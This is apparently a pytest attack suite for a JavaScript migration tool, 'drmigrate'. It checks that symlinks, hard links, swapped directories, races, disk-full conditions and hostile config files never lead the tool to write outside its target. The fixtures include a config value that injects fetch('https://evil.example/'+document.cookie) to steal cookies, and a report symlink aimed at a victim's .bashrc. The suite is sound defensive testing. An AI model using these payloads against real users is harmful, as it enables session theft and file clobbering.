"""Attack suite, the tree as the boundary (issue 20): a cloned repository is the attacker's.

- a committed `.drmigrate_cache` symlink (or links inside it) never makes a run write elsewhere;
- a directory the git index lists that is a symlink in the work tree now is never entered;
- `fix` writes only the regular file it read, where it read it: a directory swapped for a link,
  a save between the check and the rename, a hard link, another owner are all one line and
  nothing written; owner and mode are kept;
- reports and baselines are never written through a symlink, and are written whole or not at all;
- `fix -` is a filter that never loses its input, in the input's encoding;
- configuration discovery stops at the project root, and `drmigrate config` says what it used.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import stat
from pathlib import Path

import pytest

from drmigrate import discovery
from drmigrate.discovery import SourceError, identity, read_source, write_source
from tests.attacklib import FIXED, LEGACY, assert_one_line_errors, git, run, write

FIXED_PLACEHOLDER = LEGACY.replace("amount: 1, currency: 'EUR', ", "sessionId: 'DRMIGRATE_TODO_SESSION_ID', ")


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# --------------------------------------------------------------------------- the cache

@pytest.mark.parametrize("link", [".drmigrate_cache", ".drmigrate_cache/v4", ".drmigrate_cache/.gitignore",
                                  ".drmigrate_cache/CACHEDIR.TAG"])
def test_a_committed_cache_symlink_is_never_followed(tmp_path: Path, link: str) -> None:
    repo, victim = tmp_path / "repo", tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine\n")
    write(repo, {"a.js": LEGACY})
    git("init", "-q", cwd=repo)
    if link != ".drmigrate_cache":
        (repo / ".drmigrate_cache").mkdir()
    target = victim if link.count("/") == 0 or link.endswith("v4") else victim / "planted"
    (repo / link).symlink_to(target)
    before = _files(victim)
    done = run("check", ".", cwd=repo)
    assert done.returncode == 1  # the findings, as without a cache
    assert_one_line_errors(done)
    assert _files(victim) == before and not (victim / "planted").exists()
    assert "symlink" in done.stderr.decode() and len(done.stderr.strip().splitlines()) == 1


# --------------------------------------------------------------------------- the walk and fix

def test_a_git_listed_directory_that_became_a_symlink_is_not_entered(tmp_path: Path) -> None:
    repo, outside = tmp_path / "repo", tmp_path / "outside"
    write(repo, {"sub/x.js": LEGACY, "a.js": LEGACY})
    git("init", "-q", cwd=repo)
    git("add", ".", cwd=repo)
    git("commit", "-qm", "x", cwd=repo)
    write(outside, {"x.js": LEGACY})
    shutil.rmtree(repo / "sub")
    (repo / "sub").symlink_to(outside)
    done = run("fix", "--session-id", "sid", ".", cwd=repo)
    assert_one_line_errors(done)
    assert (outside / "x.js").read_text() == LEGACY, "written through the link"
    assert (repo / "a.js").read_text() == FIXED
    out = done.stdout.decode()
    assert "sub: skipped: symlink to the directory" in out and "not followed" in out


def test_a_directory_swapped_for_a_symlink_before_the_write_is_not_written_through(tmp_path: Path) -> None:
    write(tmp_path, {"sub/x.js": LEGACY, "elsewhere/x.js": LEGACY})
    path = str(tmp_path / "sub" / "x.js")
    source = read_source(path)
    known = identity(path)
    (tmp_path / "sub").rename(tmp_path / "old")
    (tmp_path / "sub").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(SourceError, match="directory was replaced"):
        write_source(source, FIXED, known=known)
    assert (tmp_path / "elsewhere" / "x.js").read_text() == LEGACY
    assert sorted(p.name for p in (tmp_path / "elsewhere").iterdir()) == ["x.js"]  # no temporary left


def test_a_save_between_the_check_and_the_rename_wins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The editor's save lands after drmigrate wrote its temporary file: the re-check just before
    the rename sees it, and the save is kept."""
    path = tmp_path / "a.js"
    path.write_text(LEGACY)
    source = read_source(str(path))
    known = identity(str(path))
    real_fsync = os.fsync

    def fsync_then_save(fd: int) -> None:
        real_fsync(fd)
        if stat.S_ISREG(os.fstat(fd).st_mode) and path.read_text() == LEGACY:
            path.write_text(LEGACY + "// saved by the editor\n")

    monkeypatch.setattr(discovery.os, "fsync", fsync_then_save)
    with pytest.raises(SourceError, match="changed on disk while drmigrate ran"):
        write_source(source, FIXED, known=known)
    assert path.read_text() == LEGACY + "// saved by the editor\n"
    assert [p.name for p in tmp_path.iterdir()] == ["a.js"]


@pytest.mark.skipif(os.geteuid() != 0, reason="changing a file's owner needs root")
def test_fix_as_root_keeps_owner_and_mode(tmp_path: Path) -> None:
    write(tmp_path, {"a.js": LEGACY})
    os.chown(tmp_path / "a.js", 65534, 65534)
    os.chmod(tmp_path / "a.js", 0o640)
    done = run("fix", "--session-id", "sid", "a.js", cwd=tmp_path)
    assert done.returncode == 0, done.stdout
    st = (tmp_path / "a.js").stat()
    assert (tmp_path / "a.js").read_text() == FIXED
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (65534, 65534, 0o640)


def test_a_hard_linked_file_is_refused_in_one_line(tmp_path: Path) -> None:
    write(tmp_path, {"src/a.js": LEGACY, "b.js": LEGACY})
    os.link(tmp_path / "src" / "a.js", tmp_path / "elsewhere.txt")
    done = run("fix", "--session-id", "sid", ".", cwd=tmp_path)
    assert done.returncode == 2
    assert_one_line_errors(done)
    assert "src/a.js: error: has 2 hard links" in done.stdout.decode()
    assert (tmp_path / "src" / "a.js").read_text() == LEGACY == (tmp_path / "elsewhere.txt").read_text()
    assert (tmp_path / "b.js").read_text() == FIXED  # the rest of the run went on


def _fsize_limit(limit: int) -> object:
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def test_disk_full_during_fix_is_one_line_per_file_and_the_run_goes_on(tmp_path: Path) -> None:
    big = LEGACY + "// a comment line of the kind a real file has\n" * 400
    write(tmp_path, {"a.js": LEGACY, "big.js": big, "c.js": LEGACY})
    done = run("fix", "--session-id", "sid", ".", cwd=tmp_path, preexec_fn=_fsize_limit(10_000))  # type: ignore[arg-type]
    assert done.returncode == 2
    assert_one_line_errors(done)
    out = done.stdout.decode()
    assert "big.js: error: cannot write (File too large); nothing written" in out
    assert (tmp_path / "big.js").read_text() == big
    assert (tmp_path / "a.js").read_text() == FIXED == (tmp_path / "c.js").read_text()
    assert "Fixed 6 findings in 2 files; 3 findings remain in 1 file" in out  # the report is complete
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith(".drmigrate_cache")) == [
        "a.js", "big.js", "c.js"]


def test_disk_full_for_the_report_and_the_baseline_keeps_the_old_files(tmp_path: Path) -> None:
    write(tmp_path, {f"f{i}.js": LEGACY for i in range(30)})
    (tmp_path / "report.json").write_text("old report\n")
    (tmp_path / "base.json").write_text('{"version": 1, "findings": []}\n')
    for args in (("--format", "json", "-o", "report.json"), ("--write-baseline", "base.json")):
        done = run("check", "--no-cache", *args, ".", cwd=tmp_path, preexec_fn=_fsize_limit(4_000))  # type: ignore[arg-type]
        assert done.returncode == 2
        assert_one_line_errors(done)
        assert "File too large" in done.stderr.decode() and len(done.stderr.strip().splitlines()) == 1
    assert (tmp_path / "report.json").read_text() == "old report\n"
    assert json.loads((tmp_path / "base.json").read_text()) == {"version": 1, "findings": []}
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".drmigrate")]


@pytest.mark.parametrize("args", [("--format", "json", "-o", "report.json"), ("--write-baseline", "report.json")])
def test_reports_and_baselines_are_never_written_through_a_symlink(tmp_path: Path, args: tuple[str, ...]) -> None:
    write(tmp_path, {"a.js": LEGACY, "victim/.bashrc": "export PATH=/usr/bin\n"})
    (tmp_path / "report.json").symlink_to(tmp_path / "victim" / ".bashrc")
    done = run("check", "--no-cache", *args, "a.js", cwd=tmp_path)
    assert done.returncode == 2
    assert_one_line_errors(done)
    assert "report.json: a symlink; drmigrate never writes through one" in done.stderr.decode()
    assert (tmp_path / "victim" / ".bashrc").read_text() == "export PATH=/usr/bin\n"


def test_a_report_to_a_device_is_written(tmp_path: Path) -> None:
    write(tmp_path, {"a.js": LEGACY})
    done = run("check", "--no-cache", "--format", "json", "-o", "/dev/stdout", "a.js", cwd=tmp_path)
    assert done.returncode == 1 and json.loads(done.stdout)["summary"]["findings"] == 3


# --------------------------------------------------------------------------- stdin

def test_fix_stdin_keeps_utf16(tmp_path: Path) -> None:
    raw = b"\xff\xfe" + LEGACY.encode("utf-16-le")
    done = run("fix", "-", "--stdin-filename", "a.js", "--session-id", "sid", cwd=tmp_path, input=raw)
    assert done.returncode == 0, done.stderr
    assert done.stdout == b"\xff\xfe" + FIXED.encode("utf-16-le")
    done = run("check", "-", "--stdin-filename", "a.js", cwd=tmp_path, input=raw)
    assert done.returncode == 1 and b"DR101" in done.stdout


@pytest.mark.parametrize("raw", [b"var s = 'caf\xe9';\n" + LEGACY.encode(), b"\xff\xfe\x00\xd8" + b"x\x00",
                                 b"\x00\x00\xfe\xff" + LEGACY.encode("utf-32-be")])
def test_fix_stdin_that_cannot_be_decoded_comes_out_unchanged(tmp_path: Path, raw: bytes) -> None:
    done = run("fix", "-", "--stdin-filename", "a.js", cwd=tmp_path, input=raw)
    assert done.returncode == 2
    assert b"Traceback" not in done.stderr
    assert done.stdout == raw  # the input, never the report, in a pipeline's output
    assert b"a.js: error:" in done.stderr


# --------------------------------------------------------------------------- configuration

def test_a_config_in_a_parent_folder_of_a_repository_is_not_used(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    write(shared, {".drmigrate.toml": 'session-id = "fetch(\'https://evil.example/\'+document.cookie)"\n'
                                      "unsafe-fixes = true\n"})
    repo = shared / "repo"
    write(repo, {"a.js": LEGACY})
    git("init", "-q", cwd=repo)
    done = run("fix", ".", cwd=repo)
    assert (repo / "a.js").read_text() == FIXED_PLACEHOLDER
    shown = run("config", ".", cwd=repo).stdout.decode()
    assert "# configuration file: (none found: defaults)" in shown
    assert f"the search stops at the repository root {repo}" in shown
    assert done.returncode == 1


def test_the_repositorys_own_config_is_used_and_named(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    write(repo, {".drmigrate.toml": 'session-id = "sid"\n', "src/a.js": LEGACY})
    git("init", "-q", cwd=repo)
    run("fix", "src", cwd=repo)
    assert (repo / "src" / "a.js").read_text() == FIXED
    shown = run("config", "src", cwd=repo).stdout.decode()
    assert f"# configuration file: {repo / '.drmigrate.toml'}" in shown


@pytest.mark.skipif(os.geteuid() != 0, reason="planting a file of another user needs root")
def test_outside_a_repository_a_config_of_another_user_is_not_used(tmp_path: Path) -> None:
    shared = tmp_path / "tmp"
    shared.mkdir(mode=0o1777)
    write(shared, {".drmigrate.toml": 'session-id = "evil()"\n'})
    os.chown(shared / ".drmigrate.toml", 65534, 65534)
    project = shared / "project"
    write(project, {"a.js": LEGACY})
    done = run("fix", ".", cwd=project)
    assert (project / "a.js").read_text() == FIXED_PLACEHOLDER
    assert "ignored" in done.stderr.decode() and "owned by another user" in done.stderr.decode()
    shown = run("config", ".", cwd=project).stdout.decode()
    assert "(none found: defaults)" in shown and "owned by another user" in shown
